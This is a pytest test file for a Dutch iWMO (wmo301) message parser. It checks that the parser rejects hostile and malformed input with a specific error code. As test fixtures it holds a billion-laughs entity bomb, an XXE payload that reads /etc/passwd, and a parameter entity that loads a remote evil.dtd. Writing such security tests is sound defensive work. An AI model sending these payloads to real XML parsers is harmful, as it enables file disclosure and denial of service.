"""Hostile input: every case raises BerichtFout with retourcode 0001 and nothing else escapes."""

from __future__ import annotations

import pytest

from openwmo.berichten import BerichtFout, detect, lees, wmo301
from openwmo.berichten.safe_xml import parse_xml

from . import samples

NS = "http://www.istandaarden.nl/iwmo/3_2/wmo301/schema"
VALID = wmo301.build(samples.toewijzing())

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>
<wmo301:Bericht xmlns:wmo301="%s">&lol3;</wmo301:Bericht>""" % NS.encode()

XXE = b"""<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE b [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<wmo301:Bericht xmlns:wmo301="%s"><wmo301:Header>&xxe;</wmo301:Header></wmo301:Bericht>""" % NS.encode()

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE b [<!ENTITY %% remote SYSTEM "http://example.invalid/evil.dtd"> %%remote;]>
<wmo301:Bericht xmlns:wmo301="%s"/>""" % NS.encode()

DOCTYPE_ONLY = b'<?xml version="1.0"?>\n<!DOCTYPE Bericht>\n' + VALID.split(b"\n", 1)[1]
UNDECLARED_ENTITY = b'<wmo301:Bericht xmlns:wmo301="%s">&nbsp;</wmo301:Bericht>' % NS.encode()

HOSTILE = {
    "billion laughs": BILLION_LAUGHS,
    "external entity": XXE,
    "parameter entity": PARAMETER_ENTITY,
    "doctype": DOCTYPE_ONLY,
    "undeclared entity": UNDECLARED_ENTITY,
    "truncated": VALID[: len(VALID) // 2],
    "wrong namespace": VALID.replace(b"wmo301/schema", b"wmo399/schema"),
    "wrong root": VALID.replace(b"wmo301:Bericht", b"wmo301:Brief"),
    "no namespace": b"<Bericht><Header/></Bericht>",
    "utf-16": VALID.decode("utf-8").replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16"),
    "utf-16 without declaration": VALID.split(b"\n", 1)[1].decode().encode("utf-16-le"),
    "latin-1 declared": VALID.replace(b'encoding="UTF-8"', b'encoding="ISO-8859-1"'),
    "latin-1 bytes": VALID.replace(b"Jansen", "Jänsen".encode("latin-1")),
    "empty": b"",
    "whitespace": b"  \n ",
    "not xml": b"BSN;naam\n999900006;Jansen\n",
    "json": b'{"Bericht": {}}',
    "binary": bytes(range(256)),
    "two roots": VALID + b"<x/>",
    "str instead of bytes": VALID.decode("utf-8"),
    "none": None,
}


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_input_raises_berichtfout_0001(name):
    data = HOSTILE[name]
    for call in (lambda: wmo301.parse(data), lambda: detect(data), lambda: lees(data)):
        with pytest.raises(BerichtFout) as exc:
            call()
        assert exc.value.retourcode == "0001"
        assert exc.value.meldingen and all(isinstance(m, str) for m in exc.value.meldingen)


def test_external_entity_content_never_appears():
    with pytest.raises(BerichtFout) as exc:
        wmo301.parse(XXE)
    assert "root:" not in str(exc.value)


def test_size_limit():
    big = VALID.replace(b"</wmo301:Bericht>", b"<!--" + b"x" * 2_000_000 + b"--></wmo301:Bericht>")
    with pytest.raises(BerichtFout, match="te groot"):
        wmo301.parse(big, max_bytes=1_000_000)
    with pytest.raises(BerichtFout, match="te groot"):
        parse_xml(b"<a/>" + b" " * 100, max_bytes=50)


def test_default_size_limit_is_20_mb():
    huge = b"<a>" + b"x" * (20 * 1024 * 1024) + b"</a>"
    with pytest.raises(BerichtFout, match="te groot"):
        parse_xml(huge)


def test_valid_message_with_bom_and_comments_is_accepted():
    data = b"\xef\xbb\xbf" + VALID.replace(b"<wmo301:Header>", b"<!-- c --><wmo301:Header>")
    assert wmo301.parse(data) == samples.toewijzing()
    assert detect(data) == "301"


def test_bytearray_and_memoryview_are_accepted():
    assert wmo301.parse(bytearray(VALID)) == wmo301.parse(memoryview(VALID))


def test_detect_cross_checks_berichtcode():
    with pytest.raises(BerichtFout, match="BerichtCode"):
        detect(VALID.replace(b">414<", b">418<"))
